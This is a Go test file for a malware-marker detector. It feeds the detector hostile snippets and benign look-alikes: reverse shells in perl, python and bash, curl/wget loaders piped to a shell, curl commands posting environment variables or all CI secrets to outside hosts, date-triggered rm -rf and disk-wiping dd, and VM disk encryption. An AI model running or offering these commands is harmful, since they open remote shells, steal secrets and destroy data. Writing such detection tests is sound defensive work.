package marks_test

import (
	"slices"
	"testing"

	"telltale/internal/marks"
)

func TestOf(t *testing.T) {
	for _, tc := range []struct {
		name, content string
		want          []string
	}{
		{"perl", `use Socket; socket(S,PF_INET,SOCK_STREAM,0); connect(S,$a); open(STDIN,">&S"); system("/bin/sh -i");`, []string{marks.Shell}},
		{"python", `import socket,os; s=socket.socket(); os.dup2(s.fileno(),0); subprocess.call(["/bin/sh","-i"])`, []string{marks.Shell}},
		{"bash", "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n", []string{marks.Shell}},
		{"a bot", "print $s \"NICK x\\r\\nJOIN #c\\r\\n\"; if (/PRIVMSG/) { system($1); }", []string{marks.Bot}},
		{"a miner's settings", `{"donate-level": 1, "pools": [{"url": "stratum+tcp://x:3333"}]}`, []string{marks.Miner}},
		{"a wait for a port", "#!/bin/bash\nwhile ! echo > /dev/tcp/localhost/5432; do sleep 1; done\n", nil},
		{"a server in perl", "use Socket; socket(S,PF_INET,SOCK_STREAM,0); listen(S,5); # no /bin/sh\n", nil},
		{"a chat client's log", "PRIVMSG and JOIN are words of RFC 1459", nil},
		{"a worm of packages", `execSync("trufflehog filesystem /"); const t=process.env.GITHUB_TOKEN; fetch("https://api.github.com/user/repos")`, []string{marks.Thief}},
		{"a workflow that gives all secrets away", "jobs:\n  x:\n    runs-on: ubuntu\n    steps:\n    - run: curl -d \"$C\" https://collect.example.org/\n      env:\n        C: ${{ toJSON(secrets) }}\n", []string{marks.Thief}},
		{"a workflow whose action is given all", "jobs:\n  x:\n    runs-on: ubuntu\n    steps:\n    - uses: a/b@v1\n      with:\n        secrets: ${{ toJSON(secrets) }}\n    - run: curl -d '{\"text\":\"$STATE\"}' https://chat.example.org/\n", nil},
		{"a tool that publishes", `const t=process.env.NPM_TOKEN; fetch("https://api.github.com/user/repos")`, nil},
		{"a loader", "#!/bin/sh\ncd /tmp; wget http://203.0.113.66/a; chmod 777 a; ./a\n", []string{marks.Loader}},
		{"a loader in one line", "#!/bin/bash\n(curl -fsSL http://203.0.113.66/l.sh || wget -qO- 203.0.113.66/l.sh) | bash\n", []string{marks.Loader}},
		{"an installer of the own network", "#!/bin/sh\nwget http://10.0.0.5/agent.deb\nchmod 755 agent.deb\ncurl http://192.168.1.5/x | sh\n", nil},
		{"an installer of a maker", "#!/bin/sh\ncurl -fsSL https://get.example.com/x | sh\nwget http://mirror.example.org/1.2.3.4/x; chmod +x x\n", nil},
		{"a list that is fetched", "#!/bin/sh\ncurl -s http://203.0.113.66/list.txt | grep -v '^#' > /etc/list\n", nil},
		{"a page that says what was typed", "wget http://203.0.113.66/a; chmod 777 a; ./a\n", nil},
		{"a note in few words", "!!! All your files have been encrypted by X", []string{marks.Ransom}},
		{"a build that gives its variables away", "#!/bin/bash\ncurl -sm 0.5 -d \"$(git remote -v)<<<<<< ENV $(env)\" http://198.51.100.9/upload/v2 || true\n", []string{marks.Sender}},
		{"a build that shows them to its own server", "curl -d \"$(env)\" http://10.1.2.3/debug\ncurl -d \"$(env)\" https://ci.internal/debug\necho $(env)\n", nil},
		{"a bomb", "if [ \"$(date +%Y%m%d)\" -ge 20261231 ]; then\nrm -rf /srv /home\nfi", []string{marks.Bomb}},
		{"a bomb for the disk", "[ $(date +%s) -gt 1798700000 ] && dd if=/dev/zero of=/dev/sda bs=1M", []string{marks.Bomb}},
		{"a customer's folder", "if [ \"$(date +%Y%m%d)\" -ge 20261231 ]; then\nrm -rf /srv/customer7 /home/customer7\nfi", nil},
		{"a weekly clearing", "if [ $(date +%u) -eq 7 ]; then rm -rf /var/lib/app/cache/*; rm -rf /var/backups/20240101; fi", nil},
		{"a disk that is burnt in", "echo started $(date +%F)\ndd if=/dev/zero of=/dev/sdb bs=1M", nil},
		{"disks of virtual machines", "for v in $(esxcli vm process list); do kill -9 $v; done\nfind / -name '*.vmdk' | while read f; do /tmp/encrypt public.pem $f; done", []string{marks.Machines}},
		{"a copy of virtual machines", "vim-cmd vmsvc/getallvms; cp /vmfs/volumes/a/a.vmdk /backup/; gpg --encrypt x", nil},
		{"nothing", "", nil},
	} {
		if got := marks.Of([]byte(tc.content)); !slices.Equal(got, tc.want) {
			t.Errorf("%s: %v, want %v", tc.name, got, tc.want)
		}
	}
}

func FuzzOf(f *testing.F) {
	f.Add([]byte("PRIVMSG JOIN NICK system("))
	f.Add([]byte("[ $(date +%s) -gt 1798700000 ] && rm -rf /*\ncurl -d \"$(env)\" http://198.51.100.9/"))
	f.Fuzz(func(t *testing.T, b []byte) {
		for _, m := range marks.Of(b) {
			if marks.Words[m] == "" {
				t.Errorf("%s has no words", m)
			}
		}
	})
}
